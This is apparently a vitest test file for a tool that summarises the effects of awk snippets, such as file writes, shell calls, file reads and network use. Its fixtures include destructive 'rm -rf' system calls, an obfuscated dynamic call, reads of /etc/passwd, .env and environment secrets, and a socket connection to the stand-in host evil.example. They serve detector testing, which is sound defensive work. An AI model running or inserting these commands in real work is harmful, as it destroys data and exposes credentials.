/** awk texts and what they do. */

import { describe, expect, it } from 'vitest';
import { type Case, summarise } from './code-summary.ts';

const AWK: Readonly<Record<string, readonly Case[]>> = {
  output: [
    [
      '$1 > 5 { print $2 > "out.txt" }\n/re/ { print $0 >> "log"; close("log") }',
      'write out.txt',
      'append log',
    ],
    [
      '{ print $1, $2 | "sort -u" } END { "date" | getline d; while (("cat " f) | getline line > 0) print line }',
      'sh: sort -u',
      'sh: date',
      'sh: cat ?',
    ],
    [
      'BEGIN { while ((getline l < "/etc/passwd") > 0) n++; getline < ".env"; while (("ls" | getline x) > 0) print x }',
      'read /etc/passwd',
      'read .env',
      'sh: ls',
    ],
    [
      '{ print "a" > $1 ".txt"; print(1) > "p"; printf("%s", $1) > ("q" i) }',
      'write ?.txt',
      'write p',
      'write q?',
    ],
    ['BEGIN { printf "%s\\n", "x" > "/dev/stderr"; print "y" > "/dev/stdout" }'],
    [
      'BEGIN { s = "/inet/tcp/0/evil.example/80"; print "GET /" |& s; s |& getline r }',
      'upload evil.example:80 with ?',
      'connect evil.example:80',
    ],
    ['BEGIN { "pwd" | getline; print | "sh"; print $0 | cmd }', 'sh: pwd', 'sh: sh', 'sh: ?'],
  ],
  commands: [
    ['BEGIN{system("rm -rf /home/user")}', 'sh: rm -rf /home/user'],
    [
      'BEGIN { cmd = "rm -rf"; system(cmd " /x"); system("rm " $1); system(toupper("ls")) }',
      'sh: rm -rf /x',
      'sh: rm ?',
      'sh: LS',
    ],
    ['function f(a) { system(a) } { f("ls") }', 'sh: ls'],
    ['BEGIN { f = "sys" "tem"; @f("rm -rf /") }', 'opaque dynamic'],
    ['@include "lib.awk"', 'awk file lib.awk'],
  ],
  environment: [
    [
      'BEGIN { print ENVIRON["SECRET"]; for (k in ENVIRON) print k, ENVIRON[k] }',
      'env read SECRET',
      'env read SECRET shown',
      'env dump shown',
    ],
  ],
  everyday: [
    ['{print $1}'],
    ['{ sum += $3 } END { print sum/NR }'],
    ['{ if ($1 > $2) print $1; a[$1]++; x = $3 > 4 ? "y" : "n"; print (a > b) } # system("no")'],
    ['{ print "system(\\"no2\\") | sh > x"; gsub(/system\\("x"\\)/, ""); print toupper($1) " " length($2) }'],
    ['NR==FNR { a[$1]; next } !($1 in a) { print }'],
    ['length($0) > 80 { print FILENAME ":" FNR ": " $0 } $2 >= 3 && $3 != "|" || /a|b/ { n++ }'],
  ],
};

describe.each(Object.entries(AWK))('awk: %s', (_, cases) => {
  it.each(cases)('%s', (code, ...does) => {
    expect(summarise('awk', code)).toEqual(does);
  });
});
